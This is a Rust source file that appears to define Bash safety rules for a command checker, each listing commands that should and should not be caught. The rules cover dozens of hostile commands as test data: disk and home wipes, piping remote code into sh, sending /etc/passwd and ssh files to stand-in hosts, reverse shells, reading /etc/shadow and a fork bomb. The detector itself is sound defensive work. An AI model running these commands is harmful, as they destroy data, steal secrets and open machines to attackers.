//! The rules for Bash. Longer than other files because it is a table: one entry a rule.

use super::{Rule, Severity};
use crate::Language;

/// Every rule for Bash, in the order they are documented.
pub static ALL: &[&Rule] = &[
    &REMOVE_ROOT,
    &REMOVE_HOME,
    &DD_DEVICE,
    &MKFS,
    &WRITE_ETC,
    &WRITE_DEVICE,
    &NETWORK_DEVICE,
    &LOOPBACK_DEVICE,
    &REMOTE_CODE,
    &CHMOD_777,
    &WORLD_WRITABLE,
    &WRITE_SYSTEM,
    &START_FILE,
    &INSTALL,
    &TIMETABLE,
    &SETUID,
    &READ_SECRET,
    &SEND_PRIVATE,
    &REVERSE_SHELL,
    &DECODED_CODE,
    &DISGUISED,
    &COMPUTED_CODE,
    &COMPUTED_COMMAND,
    &PYTHON_CODE,
    &FORK_BOMB,
    &TOO_DEEP,
    &UNREADABLE,
];

/// Removal of the system.
pub static REMOVE_ROOT: Rule = Rule {
    id: "sh-remove-root",
    language: Some(Language::Bash),
    severity: Severity::Forbidden,
    title: "removal of the system",
    reason: "Removing `/` or a directory of the system as a whole destroys the machine that runs the code",
    remedy: "Remove only files that the program made, by their path below the working directory",
    matches: &[
        "rm -rf /",
        "rm -r -f /",
        "rm --recursive --force -- /",
        "rm -rf /*",
        "\\rm -rf /",
        "/bin/rm -rf /usr",
        "R=rm; $R -rf /",
        "$'\\x72m' -rf /",
        "{rm,-rf,/}",
        "sudo env nice rm -rf /",
        "find / -delete",
        "find / -exec rm -f {} +",
        "cd / && rm -rf *",
        "bash -c 'rm -rf /'",
        "echo rm -rf / | sh",
        "eval \"$(echo cm0gLXJmIC8= | base64 -d)\"",
        "echo / | xargs rm -rf",
    ],
    non_matches: &[
        "rm -rf /tmp/x",
        "rm -rf ./build",
        "echo \"rm -rf /\"",
        "# rm -rf /\ntrue",
        "cat <<'EOF'\nrm -rf /\nEOF",
        "d=$(mktemp -d); rm -rf \"$d\"",
        "find . -name '*.o' -delete",
        "awk '/rm -rf/' notes",
        "git commit -m 'stop using rm -rf /'",
    ],
};

/// Removal of a home.
pub static REMOVE_HOME: Rule = Rule {
    id: "sh-remove-home",
    language: Some(Language::Bash),
    severity: Severity::Forbidden,
    title: "removal of a home",
    reason: "A home holds what its owner cannot get back",
    remedy: "Remove only files that the program made, by their path",
    matches: &[
        "rm -rf ~",
        "rm -rf $HOME",
        "rm -rf \"${HOME:?}\"/.[!.]*",
        "cd ~ && rm -rf ./*",
        "find ~ -delete",
        "v=HOME; rm -rf \"${!v}\"",
    ],
    non_matches: &["rm -rf ~/build", "rm -rf \"$HOME/.cache/x\"", "echo ~", "ls $HOME"],
};

/// `dd` onto a device.
pub static DD_DEVICE: Rule = Rule {
    id: "sh-dd-device",
    language: Some(Language::Bash),
    severity: Severity::Forbidden,
    title: "`dd` onto a device",
    reason: "Writing to a device overwrites what is on it, without asking",
    remedy: "Write to a file instead",
    matches: &[
        "dd if=/dev/zero of=/dev/sda",
        "dd of=/dev/sda if=/dev/zero bs=1M",
        "d=/dev/sda; dd if=x of=$d",
        "sudo dd of='/de'v/vda < x",
    ],
    non_matches: &[
        "dd if=/dev/zero of=/tmp/x bs=1 count=1",
        "dd if=/dev/zero of=/dev/null count=1",
        "echo \"dd if=a of=/dev/sda\"",
    ],
};

/// A new file system, or an erased disk.
pub static MKFS: Rule = Rule {
    id: "sh-mkfs",
    language: Some(Language::Bash),
    severity: Severity::Forbidden,
    title: "a new file system, or an erased disk",
    reason: "Making a file system destroys what was on the disk",
    remedy: "Work with files and directories",
    matches: &[
        "mkfs.ext4 /dev/sda1",
        "mke2fs -F /dev/sda1",
        "busybox mkfs.vfat x",
        "wipefs -a /dev/sda",
        "/sbin/mkfs?ext4 /dev/sda1",
        "sgdisk --zap-all /dev/sda",
    ],
    non_matches: &["echo mkfs.ext4", "man mkfs.ext4", "fdisk -l /dev/sda", "apropos mkfs"],
};

/// A change in `/etc`.
pub static WRITE_ETC: Rule = Rule {
    id: "sh-write-etc",
    language: Some(Language::Bash),
    severity: Severity::Forbidden,
    title: "a change in `/etc`",
    reason: "`/etc` holds the configuration and the accounts of the machine",
    remedy: "Write to a file below the working directory",
    matches: &[
        "echo x > /etc/passwd",
        "echo x | tee -a /etc/hosts",
        "cp x /etc/cron.d/x",
        "sed -i s/a/b/ /etc/hosts",
        "cat >| '/etc/shadow' < x",
        "mv x /etc/",
        "ln -sf x /etc/profile.d/x.sh",
        "rm /etc/passwd",
        "awk 'BEGIN{print \"x\" > \"/etc/passwd\"}'",
        "echo x > ../etc/passwd",
        "usermod -aG sudo nobody",
        "bash -c 'echo x > \"$0\"' /etc/passwd",
    ],
    non_matches: &[
        "cat /etc/passwd",
        "grep x /etc/hosts > out",
        "cp /etc/hosts .",
        "[[ b > /etc/a ]]",
        "echo '> /etc/passwd'",
        "ls /etc | tee list",
    ],
};

/// Writing to a device.
pub static WRITE_DEVICE: Rule = Rule {
    id: "sh-write-device",
    language: Some(Language::Bash),
    severity: Severity::Forbidden,
    title: "writing to a device",
    reason: "A write to a device reaches the disk or the memory behind every file",
    remedy: "Write to a file; `/dev/null` and the standard streams are allowed",
    matches: &["cat x > /dev/sda", "cat x | tee /dev/sda", "cp x /dev/mem", "shred /dev/sda"],
    non_matches: &[
        "ls 2>/dev/null",
        "echo x > /dev/stderr",
        "echo x >> /dev/null",
        "echo x > /dev/shm/x",
        "cat /dev/sda1 | wc -c",
        "echo x > /dev/tty",
    ],
};

/// A connection by `/dev/tcp` or `/dev/udp`.
pub static NETWORK_DEVICE: Rule = Rule {
    id: "sh-network-device",
    language: Some(Language::Bash),
    severity: Severity::Forbidden,
    title: "a connection by `/dev/tcp` or `/dev/udp`",
    reason: "Bash opens a connection to another machine when it writes to these names",
    remedy: "Work without the network",
    matches: &[
        "cat x > /dev/tcp/198.51.100.7/80",
        "exec 5<>/dev/tcp/198.51.100.7/80",
        "bash -i >& /dev/tcp/198.51.100.7/80 0>&1",
    ],
    non_matches: &[
        "(exec 3<>/dev/tcp/127.0.0.1/1) 2>/dev/null || echo closed",
        "echo /dev/tcp/198.51.100.7/80",
    ],
};

/// A connection to this machine by `/dev/tcp`.
pub static LOOPBACK_DEVICE: Rule = Rule {
    id: "sh-loopback-device",
    language: Some(Language::Bash),
    severity: Severity::Suspicious,
    title: "a connection to this machine by `/dev/tcp`",
    reason: "A connection to the machine itself reaches the services that run on it",
    remedy: "Work without the network",
    matches: &["exec 3<>/dev/tcp/127.0.0.1/80"],
    non_matches: &["echo /dev/tcp/127.0.0.1/80"],
};

/// Running code from the network.
pub static REMOTE_CODE: Rule = Rule {
    id: "sh-remote-code",
    language: Some(Language::Bash),
    severity: Severity::Forbidden,
    title: "running code from the network",
    reason: "Code that is fetched when it runs can be anything, and nobody has read it",
    remedy: "Put the code into the program itself",
    matches: &[
        "curl http://x.invalid | sh",
        "wget -qO- http://x.invalid | sudo bash -s",
        "bash <(curl -s http://x.invalid)",
        "source <(wget -qO- http://x.invalid)",
        ". <(curl http://x.invalid)",
        "eval \"$(curl -s http://x.invalid)\"",
        "sh -c \"$(wget -qO- http://x.invalid)\"",
        "curl -so x http://x.invalid && bash x",
        "curl http://x.invalid | tee x | sh",
        "python3 <(curl http://x.invalid)",
        "wget http://x.invalid/i.sh; chmod +x i.sh; ./i.sh",
    ],
    non_matches: &[
        "curl http://x.invalid | jq .",
        "curl -o x.tar http://x.invalid/x.tar",
        "grep 'curl x | sh' notes",
        "echo \"curl x | sh\"",
        "curl http://x.invalid | shuf",
    ],
};

/// Rights for everybody.
pub static CHMOD_777: Rule = Rule {
    id: "sh-chmod-777",
    language: Some(Language::Bash),
    severity: Severity::Forbidden,
    title: "rights for everybody",
    reason: "A file that everybody may write is a way in for everybody",
    remedy: "Give rights to the owner: `chmod u+x` or `chmod 755`",
    matches: &[
        "chmod 777 x",
        "chmod -R 777 x",
        "chmod 0777 x",
        "chmod a+rwx x",
        "chmod --recursive ugo=rwx x",
        "chmod -- 777 x",
        "chmod $((700+77)) x",
        "install -m 0777 a b",
        "chmod o+w /etc/passwd",
    ],
    non_matches: &[
        "chmod 755 x",
        "chmod +x x",
        "chmod u+rwx x",
        "echo chmod 777",
        "find . -perm 777",
        "chmod -x x",
    ],
};

/// Writing for everybody.
pub static WORLD_WRITABLE: Rule = Rule {
    id: "sh-world-writable",
    language: Some(Language::Bash),
    severity: Severity::Suspicious,
    title: "writing for everybody",
    reason: "A file that everybody may write can be changed by any other program",
    remedy: "Give the right to the owner: `chmod u+w`",
    matches: &["chmod 666 x", "chmod o+w x"],
    non_matches: &["chmod 644 x", "chmod o-w x"],
};

/// A change in a directory of the system.
pub static WRITE_SYSTEM: Rule = Rule {
    id: "sh-write-system",
    language: Some(Language::Bash),
    severity: Severity::Forbidden,
    title: "a change in a directory of the system",
    reason: "The directories of the system hold the programs that everything else runs",
    remedy: "Write to a file below the working directory",
    matches: &[
        "cp x /usr/bin/x",
        "echo x > /usr/x",
        "wget -O /usr/x.py http://x.invalid/x.py",
        "rm /bin/ls",
        "cat x > /boot/vmlinuz",
    ],
    non_matches: &["cp /usr/bin/env .", "ls /usr/lib", "echo x > usr/bin", "cp x /usr/local/bin/x"],
};

/// A change in what is run at a start.
pub static START_FILE: Rule = Rule {
    id: "sh-start-file",
    language: Some(Language::Bash),
    severity: Severity::Forbidden,
    title: "a change in what is run at a start",
    reason: "What stands in a start file, a timetable or a list of keys is run or trusted later, when nobody looks",
    remedy: "Set what the program needs in the program itself",
    matches: &[
        "echo x >> ~/.bashrc",
        "echo 'alias sudo=\"rm -rf /home/*\"' >> /root/.bashrc",
        "cat key >> $HOME/.ssh/authorized_keys",
        "cp x /var/spool/cron/root",
    ],
    non_matches: &["cat ~/.bashrc", "source ~/.bashrc", "echo x >> bashrc"],
};

/// Something installed into the system.
pub static INSTALL: Rule = Rule {
    id: "sh-install-system",
    language: Some(Language::Bash),
    severity: Severity::Suspicious,
    title: "something installed into the system",
    reason: "What is put into a directory of the system stays for every other program",
    remedy: "Install below the working directory",
    matches: &["cp x /usr/lib/", "ln -s a /usr/bin/a", "mkdir -p /usr/x"],
    non_matches: &["cp x lib/", "ls /usr/lib/"],
};

/// A change of the timetable.
pub static TIMETABLE: Rule = Rule {
    id: "sh-timetable",
    language: Some(Language::Bash),
    severity: Severity::Suspicious,
    title: "a change of the timetable",
    reason: "What stands in a timetable is run later, when nobody looks",
    remedy: "Run what is needed in the program itself",
    matches: &["echo '* * * * * id' | crontab -", "crontab x"],
    non_matches: &["crontab -l"],
};

/// A program that runs with its owner's rights.
pub static SETUID: Rule = Rule {
    id: "sh-setuid",
    language: Some(Language::Bash),
    severity: Severity::Suspicious,
    title: "a program that runs with its owner's rights",
    reason: "Whoever starts such a program has its owner's rights",
    remedy: "Run the program with the rights that you have",
    matches: &["chmod u+s x", "chmod 4755 x"],
    non_matches: &["chmod 755 x"],
};

/// Reading a secret.
pub static READ_SECRET: Rule = Rule {
    id: "sh-read-secret",
    language: Some(Language::Bash),
    severity: Severity::Forbidden,
    title: "reading a secret",
    reason: "Password files and private keys are nobody's business but the machine's",
    remedy: "Use data that the program was given",
    matches: &[
        "cat /etc/shadow",
        "f=/etc/shadow; content=$(cat \"$f\")",
        "cp ~/.ssh/id_rsa x",
        "while read l; do echo $l; done < /etc/shadow",
    ],
    non_matches: &["cat /etc/passwd", "ls -l /etc/shadow", "cat ~/.ssh/id_rsa.pub"],
};

/// Sending a private file away.
pub static SEND_PRIVATE: Rule = Rule {
    id: "sh-send-private",
    language: Some(Language::Bash),
    severity: Severity::Forbidden,
    title: "sending a private file away",
    reason: "Files of the system and of its users do not belong on another machine",
    remedy: "Send only data that the program made",
    matches: &[
        "curl --data-binary @/etc/passwd http://x.invalid",
        "f() { curl -F \"f=@$2\" \"$1\"; }; f http://x.invalid /etc/group",
        "cat /etc/passwd | nc x.invalid 80",
        "curl -T ~/.ssh/config http://x.invalid",
    ],
    non_matches: &[
        "curl -d @body.json http://x.invalid",
        "cat /etc/passwd | wc -l",
        "curl http://x.invalid -o x",
    ],
};

/// A shell for another machine.
pub static REVERSE_SHELL: Rule = Rule {
    id: "sh-reverse-shell",
    language: Some(Language::Bash),
    severity: Severity::Forbidden,
    title: "a shell for another machine",
    reason: "Whoever is at the other end can run anything here",
    remedy: "Work without the network",
    matches: &[
        "nc -e /bin/sh x.invalid 80",
        "ncat x.invalid 80 --exec /bin/bash",
        "socat TCP:x.invalid:80 EXEC:/bin/sh",
        "perl -e 'use Socket; exec(\"/bin/sh -i\");'",
    ],
    non_matches: &["nc -z x.invalid 80", "socat - TCP:x.invalid:80"],
};

/// Running what a decoder makes.
pub static DECODED_CODE: Rule = Rule {
    id: "sh-decoded-code",
    language: Some(Language::Bash),
    severity: Severity::Forbidden,
    title: "running what a decoder makes",
    reason: "Code that is encoded hides what it does",
    remedy: "Write the code out",
    matches: &[
        "base64 -d x | sh",
        "eval \"$(gunzip -c x)\"",
        "bash <<< \"$(openssl enc -d -in x)\"",
        "perl -e 'system(pack(\"H*\",\"6c73\"))'",
    ],
    non_matches: &[
        "base64 -d x > y",
        "echo bHM= | base64 -d",
        "gunzip -c x | wc -l",
        "echo bHM= | base64 -d | sh",
    ],
};

/// A command whose name is hard to read.
pub static DISGUISED: Rule = Rule {
    id: "sh-disguised-command",
    language: Some(Language::Bash),
    severity: Severity::Forbidden,
    title: "a command whose name is hard to read",
    reason: "Quotes and escapes inside a name have no use but to hide it",
    remedy: "Write the name out",
    matches: &["r\"\"m x", "$'\\x6c'\"s\"", "p'r'intf x", "b\\ase64 x"],
    non_matches: &["\\ls", "\"ls\"", "\"$dir\"/run", "./my\\ tool", "echo r\"\"m", "\"$HOME\"/bin/x"],
};

/// Running text that is not known.
pub static COMPUTED_CODE: Rule = Rule {
    id: "sh-computed-code",
    language: Some(Language::Bash),
    severity: Severity::Suspicious,
    title: "running text that is not known",
    reason: "What the text is shows only when it runs, so it cannot be reviewed",
    remedy: "Write the commands out",
    matches: &["eval \"$(./configure-shell)\"", "./generate | bash"],
    non_matches: &["eval \"echo x\"", "bash -c 'ls'"],
};

/// A command whose name is not known.
pub static COMPUTED_COMMAND: Rule = Rule {
    id: "sh-computed-command",
    language: Some(Language::Bash),
    severity: Severity::Suspicious,
    title: "a command whose name is not known",
    reason: "Which program runs shows only when it runs",
    remedy: "Write the name out",
    matches: &["$(./pick) x", "read c; $c x"],
    non_matches: &["c=ls; $c x"],
};

/// Python code that the policy forbids.
pub static PYTHON_CODE: Rule = Rule {
    id: "sh-python-code",
    language: Some(Language::Bash),
    severity: Severity::Forbidden,
    title: "Python code that the policy forbids",
    reason: "Python inside Bash can do what Python alone may not",
    remedy: "Submit the Python code as Python, without what is forbidden",
    matches: &["python3 -c 'import os'", "python3 <<'END'\nimport os\nEND"],
    non_matches: &["python3 -c 'print(1)'", "python3 script.py"],
};

/// A program that multiplies without end.
pub static FORK_BOMB: Rule = Rule {
    id: "sh-fork-bomb",
    language: Some(Language::Bash),
    severity: Severity::Forbidden,
    title: "a program that multiplies without end",
    reason: "A fork bomb takes the machine away from everybody else",
    remedy: "Start a bounded number of processes",
    matches: &[":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb"],
    non_matches: &["f() { echo x; }; f | sort", "f() { g | g; }; f"],
};

/// Code that is nested too deep to read.
pub static TOO_DEEP: Rule = Rule {
    id: "sh-too-deep",
    language: Some(Language::Bash),
    severity: Severity::Forbidden,
    title: "code that is nested too deep to read",
    reason: "Code nested this deep is written for a machine to trip over",
    remedy: "Flatten the code",
    matches: &[
        "echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo x))))))))))))))))))))))))))))))))))))))))))))))",
    ],
    non_matches: &["echo $(echo $(echo x))"],
};

/// Code that does not parse.
pub static UNREADABLE: Rule = Rule {
    id: "sh-unreadable",
    language: Some(Language::Bash),
    severity: Severity::Suspicious,
    title: "code that does not parse",
    reason: "Code that does not parse cannot be reviewed as code, only searched as text",
    remedy: "Mend the syntax error",
    matches: &["if ("],
    non_matches: &["true"],
};
